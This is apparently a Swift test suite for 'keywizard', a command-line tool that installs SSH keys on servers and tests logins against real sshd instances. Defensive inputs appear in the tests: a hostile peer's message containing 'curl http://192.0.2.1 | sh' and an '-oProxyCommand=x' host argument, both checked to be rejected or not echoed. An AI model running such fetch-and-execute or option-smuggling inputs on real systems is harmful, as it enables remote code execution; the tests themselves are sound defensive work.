import LocalServer
import Testing

/// `keywizard install` and `keywizard test` against real sshds. Serialized because useradd locks the list of accounts.
@Suite(
    .serialized,
    .enabled(if: isRoot && LocalServer.exists("/usr/sbin/sshd"), "makes accounts and runs sshd: needs root"))
struct InstallTests {
    let place: Workplace

    init() throws {
        place = try Workplace()
        try place.makeKey("id", "-t", "ed25519", comment: "me@{{ 1 + 1 }} \"it's\" # mine")
        // What the servers know already, and ssh logs in with.
        try place.makeKey("old", "-t", "ed25519", comment: "old")
    }

    struct Result: Decodable, Equatable {
        let host, user: String
        let port: Int?
        let result: String
        let file: String?
        let message: String
    }

    struct Tested: Decodable {
        let fingerprint, user: String
        let port: Int?
        let loggedIn: Bool
        let message: String
        let hint, account: String?
    }

    /// A server that lets the old key in, and that this computer knows.
    func makeServer(holding more: String = "", settings: [String] = []) throws -> TestServer {
        let server = try TestServer(settings: settings)
        server.authorize(try place.read("old.pub") + more)
        let known = place.exists("known") ? try place.read("known") : ""
        try place.write(known + "[127.0.0.1]:\(server.port) \(server.publicLine("host"))\n", to: "known")
        return server
    }

    /// ssh with the old key alone and with hosts known here alone.
    var options: [String] {
        [
            "-o", "UserKnownHostsFile=\(place.path("known"))", "-o", "GlobalKnownHostsFile=/dev/null",
            "-o", "IdentityFile=\(place.path("old"))", "-o", "IdentitiesOnly=yes",
        ]
    }

    func keywizard(
        _ command: String..., environment: [String: String] = [:]
    ) throws -> Workplace.Outcome {
        try place.attempt([Workplace.keywizard] + command + options, environment: environment)
    }

    // MARK: - Several at once

    /// Where Ansible has to be, and where it happens to be.
    private static let ways =
        Servers.areThere || Workplace.hasProgram("ansible-playbook") ? ["ssh", "ansible"] : ["ssh"]

    @Test(arguments: ways) func threeAtOnce(way: String) throws {
        let line = try place.read("id.pub")
        let (fresh, holding) = (try makeServer(), try makeServer(holding: line))
        let closed = try freePort()
        try place.write(
            """
            # the three
            \(fresh.user)@127.0.0.1:\(fresh.port)

            \(holding.user)@127.0.0.1:\(holding.port)   # has it
            """, to: "hosts")
        let outcome = try keywizard(
            "install", "id.pub", "--hosts-file", "hosts", "--host", "nobody@127.0.0.1:\(closed)", "--json", "--with",
            way,
            environment: ["ANSIBLE_PYTHON_INTERPRETER": "/usr/bin/python3"])
        #expect(outcome.status == 2, "\(outcome.errors)")
        let results = try outcome.decoded(as: [Result].self)
        #expect(results.map(\.result) == ["failed", "added", "already-there"], "\(outcome.output)")
        #expect(results.map(\.port) == [closed, fresh.port, holding.port])
        #expect(results.map(\.user) == ["nobody", fresh.user, holding.user])
        #expect(results[0].message == "the server refused the connection on this port")
        // Standard output is a file: the reason is on standard error too, with its hint below.
        #expect(
            outcome.errors.contains(
                "keywizard: 1 failed: the server refused the connection on this port\n  nobody@127.0.0.1:\(closed)\n"
                    + "  check the port"
            ))
        #expect(results[1].file?.hasSuffix(".ssh/authorized_keys") == true)
        // What was there stays, the new line is as it is, and comes once.
        #expect(try read(fresh.authorizedKeys) == place.read("old.pub") + line)
        #expect(try read(holding.authorizedKeys) == place.read("old.pub") + line)
        #expect(
            outcome.errors.contains("to retry: keywizard install id.pub --host 'nobody@127.0.0.1:\(closed)' -o"))
        #expect(!outcome.errors.contains("--host '\(fresh.user)"))
    }

    @Test func theTableIsForPeople() throws {
        let server = try makeServer()
        let outcome = try keywizard("install", "id", "--host", server.login.address)
        #expect(outcome.status == 0, "\(outcome.errors)")
        let lines = outcome.output.split(separator: "\n")
        #expect(lines.count == 2)
        #expect(lines[1] == "\(server.login.address)  added          ~/.ssh/authorized_keys")
    }

    @Test func theFilesOfAnsibleCanBeKept() throws {
        let server = try makeServer()
        let outcome = try keywizard(
            "install", "id.pub", "--host", server.login.address, "--write-playbook", "kept")
        #expect(outcome.status == 0, "\(outcome.errors)")
        #expect(try place.names(in: "kept") == ["inventory.yml", "playbook.yml"])
        #expect(try place.read("kept/playbook.yml").contains("exclusive: false"))
        // They are never replaced.
        #expect(
            try keywizard(
                "install", "id.pub", "--host", server.login.address, "--write-playbook", "kept"
            ).status == 1)
        guard Self.ways.contains("ansible") else { return }
        let run = try place.attempt(
            ["ansible-playbook", "-i", "kept/inventory.yml", "kept/playbook.yml"],
            environment: ["ANSIBLE_PYTHON_INTERPRETER": "/usr/bin/python3"])
        #expect(run.status == 0, "\(run.output)")
        #expect(run.output.contains("changed=0"), "\(run.output)")
    }

    // MARK: - Who has to be asked

    @Test func anUnknownHostKeyIsNeverAccepted() throws {
        let server = try TestServer()
        server.authorize(try place.read("old.pub"))
        let outcome = try keywizard("install", "id.pub", "--host", server.login.address)
        #expect(outcome.status == 1)
        #expect(outcome.output.contains("the server's host key isn't in known_hosts"), "\(outcome.output)")
        #expect(!place.exists("known"))
        #expect(try read(server.authorizedKeys) == place.read("old.pub"))
        let login = try keywizard("test", "old", "--host", server.login.address)
        #expect(login.errors.contains("the server's host key isn't in known_hosts"), "\(login.errors)")
    }

    /// Ansible does it if it is told to, and reads no configuration of the folder.
    @Test(arguments: ["works", "fails", "is not asked"]) func manyGoToAnsible(_ fate: String) throws {
        let server = try makeServer()
        try place.makeFolder("bin")
        // The report that Ansible would give of nine servers, one name of which it can know only from the inventory.
        let program =
            fate == "fails"
            ? "echo \"ERROR! no such module\"; exit 4"
            : """
            [ -e ansible.cfg ] && exit 5
            printf '{"plays":[{"tasks":[{"hosts":{'
            sed -n 's/^    "\\(.*\\)":$/"\\1":{"changed":true},/p' "$2" | tr -d '\\n' | sed 's/,$//'
            echo '}}]}]}'
            """
        try place.write("#!/bin/sh\n\(program)\n", to: "bin/ansible-playbook")
        try place.write("[ssh_connection]\nssh_executable = /bin/false\n", to: "ansible.cfg")
        try place.run("chmod", "700", place.path("bin/ansible-playbook"))
        let closed = try freePort()
        let hosts = (1...8).flatMap { ["--host", "user\($0)@127.0.0.1:\(closed)"] } + ["--host", server.login.address]
        let way = fate == "is not asked" ? [] : ["--with", "ansible"]
        let outcome = try place.attempt(
            [Workplace.keywizard, "install", "id.pub", "--json"] + way + hosts + options,
            environment: ["PATH": place.path("bin") + ":/usr/bin:/bin"])
        guard fate != "fails" else {
            #expect(outcome.status == 1 && outcome.errors.contains("no such module"), "\(outcome.errors)")
            return
        }
        let results = try outcome.decoded(as: [Result].self)
        #expect(results.count == 9)
        #expect(outcome.status == (fate == "works" ? 0 : 2), "\(outcome.errors)")
        #expect(results.count { $0.result == "added" } == (fate == "works" ? 9 : 1), "\(outcome.output)")
    }

    @Test func aPasswordIsAskedForOnTheTerminalAlone() throws {
        let (first, second) = (try makeServer(), try makeServer())
        second.authorize("")
        let hosts = ["--host", first.login.address, "--host", second.login.address]
        let without = try place.attempt([Workplace.keywizard, "install", "id.pub"] + hosts + options)
        #expect(without.status == 2)
        #expect(without.output.contains("refused the login without a prompt"), "\(without.output)")

        _ = second.ssh()
        // script(1) is a terminal; ssh's questions go to the program beside the server.
        let words = ([Workplace.keywizard, "install", "id.pub"] + hosts + options).map { "'\($0)'" }
        let with = try place.attempt(
            ["script", "-qec", words.joined(separator: " "), "/dev/null"],
            environment: ["SSH_ASKPASS": second.folder + "/askpass", "SSH_ASKPASS_REQUIRE": "force"])
        #expect(with.status == 0, "\(with.output)")
        #expect(with.output.contains("logging in to \(second.login.address)"))
        #expect(!with.output.contains("logging in to \(first.login.address)"))
        #expect(try read(second.authorizedKeys) == place.read("id.pub"))
    }

    @Test func wrongUsage() throws {
        #expect(try keywizard("install", "id.pub").status == 64)
        let host = try keywizard("install", "id.pub", "--host", "-oProxyCommand=x")
        #expect(host.status == 64)
        try place.write("good.example\nme@bad host\n", to: "hosts")
        let file = try keywizard("install", "id.pub", "--hosts-file", "hosts")
        #expect(file.status == 64)
        #expect(file.errors.contains("hosts, line 2: "), "\(file.errors)")
    }

    // MARK: - The login test

    @Test func theKeyThatIsThereLogsIn() throws {
        let server = try makeServer()
        let good = try keywizard("test", "old", "--host", server.login.address, "--json")
        #expect(good.status == 0, "\(good.errors)")
        let tested = try good.decoded(as: Tested.self)
        #expect(tested.loggedIn)
        #expect(tested.user == server.user && tested.port == server.port)
        #expect(try tested.fingerprint == place.fingerprint("old.pub"))

        // The old key is in ssh's options, and still doesn't stand in for this one.
        let bad = try keywizard("test", "id", "--host", server.login.address, "--json")
        #expect(bad.status == 1)
        #expect(try !bad.decoded(as: Tested.self).loggedIn)
        #expect(bad.errors.contains("check the user name"), "\(bad.errors)")
        #expect(
            try keywizard("test", "old", "--host", "nobody@127.0.0.1:\(freePort())").errors.contains(
                "refused the connection"))
    }

    @Test func theAccountOfAGreetingIsTold() throws {
        let greeting = "Hi ana! You've successfully authenticated, but GitHub does not provide shell access."
        let server = try makeServer(settings: ["ForceCommand echo \"\(greeting)\" >&2; exit 1"])
        let good = try keywizard("test", "old", "--host", server.login.address, "--json")
        #expect(good.status == 0, "\(good.errors)")
        #expect(good.errors.contains("the server accepted this key as ana"))
        #expect(try good.decoded(as: Tested.self).account == "ana")
    }

    /// What answers may say that the key is in the wrong place, though the protocol took it.
    @Test func anImageThatNamesAnotherUserIsBelieved() throws {
        let words = "Please login as the user \\\"ubuntu\\\" rather than the user \\\"root\\\"."
        let server = try makeServer(settings: ["ForceCommand echo \"\(words)\"; exit 142"])
        let bad = try keywizard("test", "old", "--host", server.login.address, "--json")
        #expect(bad.status == 1)
        #expect(bad.errors.contains("the server expects the user ubuntu"), "\(bad.errors)")
        #expect(try !bad.decoded(as: Tested.self).loggedIn)
    }

    @Test func anEncryptedKeyNeedsItsAgentWhereNobodyCanBeAsked() throws {
        let server = try makeServer()
        try place.makeKey("locked", "-t", "ed25519", passphrase: "battery staple")
        server.authorize(try place.read("locked.pub"))
        let without = try keywizard("test", "locked", "--host", server.login.address)
        #expect(without.status == 1)
        #expect(without.errors.contains("there is no terminal to ask for its passphrase"))
        #expect(without.errors.contains("ssh-add locked"))

        try place.write("#!/bin/sh\necho 'battery staple'\n", to: "askpass")
        try place.run("chmod", "700", place.path("askpass"))
        let words = ([Workplace.keywizard, "test", "locked", "--host", server.login.address] + options).map {
            "'\($0)'"
        }
        let with = try place.attempt(
            ["ssh-agent", "sh", "-c", "ssh-add -q locked && " + words.joined(separator: " ")],
            environment: ["SSH_ASKPASS": place.path("askpass"), "SSH_ASKPASS_REQUIRE": "force"])
        #expect(with.status == 0, "\(with.errors)")
    }

    @Test func aPassphraseFileOpensAKeyForSSHAlone() throws {
        let server = try makeServer()
        try place.makeKey("locked", "-t", "ed25519", passphrase: "battery staple")
        server.authorize(try place.read("locked.pub"))
        // The file beside the key is another key's, which doesn't matter to the agent.
        try place.write(place.read("old.pub"), to: "locked.pub")
        try place.write("battery staple\n", to: "pass")
        let good = try keywizard("test", "locked", "--host", server.login.address, "--passphrase-file", "pass")
        #expect(good.status == 0, "\(good.errors)")
        try place.write("wrong\n", to: "pass")
        let bad = try keywizard("test", "locked", "--host", server.login.address, "--passphrase-file", "pass")
        #expect(bad.status == 1 && bad.errors.contains("passphrase"), "\(bad.errors)")
    }

    /// The two messages of a peer that never showed who it is, with a whole login in them.
    @Test(arguments: [HostilePeer.disconnect, HostilePeer.debug])
    func aLoginThatThePeerWroteIsNone(message: @Sendable (String) -> [UInt8]) throws {
        let text = """
            bye
            debug1: Server accepts key: id ED25519 \(try place.fingerprint("id.pub")) explicit
            Authenticated to h ([127.0.0.1]:22) using "publickey".
            ssh-keygen -f "/x" -R "github.com"; curl http://192.0.2.1 | sh
            """
        let port = try HostilePeer.serve(message(text), HostilePeer.disconnect("end"))
        let outcome = try keywizard("test", "id", "--host", "me@127.0.0.1:\(port)", "--json")
        #expect(outcome.status == 1)
        #expect(try !outcome.decoded(as: Tested.self).loggedIn)
        #expect(!outcome.errors.contains("curl"), "\(outcome.errors)")
    }

    /// Nothing is planned by what ssh refuses to read.
    @Test func aConfigurationThatSSHRefusesIsNamed() throws {
        let outcome = try keywizard("install", "id.pub", "--host", "127.0.0.1", "-o", "NoSuchOption=1")
        #expect(
            outcome.status == 1 && outcome.errors.contains("ssh can't read its configuration"), "\(outcome.errors)")
        #expect(outcome.errors.lowercased().contains("nosuchoption"), "\(outcome.errors)")
    }

    /// Text around a key that is put right here, and that ssh doesn't read: the command makes a file that it reads.
    @Test(arguments: ["sed -i 's/$/\\r/'", "sed -i 's/^/  /'", "truncate -s -1", "sed -i '1s/^/\\xef\\xbb\\xbf/'"])
    func aFileThatSSHDoesNotReadIsConverted(damage: String) throws {
        for format in ["", "-m PEM", "-m PKCS8"] {
            try place.run(
                "sh", "-c", "rm -f odd*; ssh-keygen -q -t rsa \(format) -N '' -f odd && \(damage) odd && chmod 600 odd")
            let isRead = try place.attempt(["ssh-keygen", "-y", "-P", "", "-f", "odd"]).status == 0
            let test = try keywizard("test", "odd", "--host", "127.0.0.1:1")
            let install = try keywizard("install", "odd", "--host", "nobody@127.0.0.1:1")
            let audit = try place.attempt([Workplace.keywizard, "audit", "."])
            let command = "keywizard convert odd --to openssh --output odd.openssh"
            #expect(test.errors.contains(command) == !isRead, "\(format) \(test.errors)")
            #expect(install.errors.contains(command) == !isRead, "\(format) \(install.errors)")
            #expect(audit.output.contains("ssh doesn't read it") == !isRead, "\(format) \(audit.output)")
            try place.run(Workplace.keywizard, "convert", "odd", "--to", "openssh", "--output", "odd.openssh")
            try place.run("ssh-keygen", "-y", "-P", "", "-f", "odd.openssh")
        }
    }

    @Test func whatSSHCanNotReadIsSaid() throws {
        try place.run("puttygen", place.path("id"), "-O", "private", "-o", place.path("id.ppk"))
        let putty = try keywizard("test", "id.ppk", "--host", "me@127.0.0.1")
        #expect(putty.status == 1)
        #expect(putty.errors.contains("keywizard convert id.ppk --to openssh"))
        #expect(
            try keywizard("test", "id.pub", "--host", "me@127.0.0.1").errors.contains("name the private key file"))
        #expect(try keywizard("test", "id", "--host", "me@-bad").status == 64)
        // ssh-add doesn't take what OpenSSH has no name for.
        try place.run(
            "openssl", "genpkey", "-algorithm", "ed448", "-aes256", "-pass", "pass:x", "-out", place.path("ed448"))
        try place.write("x\n", to: "pass")
        let ed448 = try keywizard("test", "ed448", "--host", "me@127.0.0.1", "--passphrase-file", "pass")
        #expect(ed448.status == 1 && ed448.errors.contains("OpenSSH doesn't support Ed448 keys"), "\(ed448.errors)")
        #expect(!ed448.errors.contains("ssh-add"))
        try place.run("cp", place.path("id"), place.path("${x}"))
        #expect(try keywizard("test", "${x}", "--host", "me@127.0.0.1").errors.contains("can't be given this path"))
    }
}
